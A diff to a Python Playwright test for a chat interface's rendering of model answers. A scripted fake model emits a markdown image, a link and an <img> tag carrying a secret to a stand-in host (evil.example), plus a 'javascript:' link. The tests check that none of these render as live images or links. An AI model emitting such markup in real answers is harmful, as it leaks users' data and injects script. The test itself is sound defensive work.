@@ -19,6 +19,7 @@ pytestmark = pytest.mark.interface
 READY = 90_000
 PATIENCE = 300_000
 """A model on one thread of a slow machine takes minutes for an answer."""
+EVIL = "http://evil.example/x.png?q=SECRET"
 WORDS = [f"word{number} " for number in range(200)]
 
 
@@ -38,7 +39,8 @@ class Scripted:
         if question.startswith("dies"):
             return chat_stream("Half of an answer", " that breaks", ending="cut")
         return chat_stream(
-            "In Israel ILS 560 a night [1], and a claim about nothing [9].\n\n", "![x](http://evil.example/x.png)"
+            "In Israel ILS 560 a night [1], and a claim about nothing [9].\n\n",
+            f"![x]({EVIL}) [the form]({EVIL}) <img src={EVIL}> [c](javascript:alert(1))",
         )
 
     async def _slow(self, writer: asyncio.StreamWriter) -> None:
@@ -98,6 +100,12 @@ def test_a_written_answer_cites_and_loses_what_it_invented(served, opened: Calla
     expect(answer.locator(".notice", has_text="named no source")).to_contain_text("[9]")
     expect(answer.locator("footer .spent")).to_have_text(re.compile(r"^\d+ tokens$"))
     expect(answer.locator("img")).to_have_count(0)
+    expect(answer.locator("a[href*=evil], a[href^=javascript]")).to_have_count(0)
+    expect(answer.locator(".body code", has_text=EVIL)).to_have_count(3)
+    page.context.grant_permissions(["clipboard-read", "clipboard-write"])
+    answer.locator("[data-copy]").click()
+    expect(page.locator(".toast")).to_be_visible()
+    assert f"the form (`{EVIL}`)" in page.evaluate("navigator.clipboard.readText()")
     answer.locator(".cite").click()
     expect(page.locator(".dock .evidence mark", has_text="ILS 560")).to_be_visible()
     shoot(page, "chat-written")
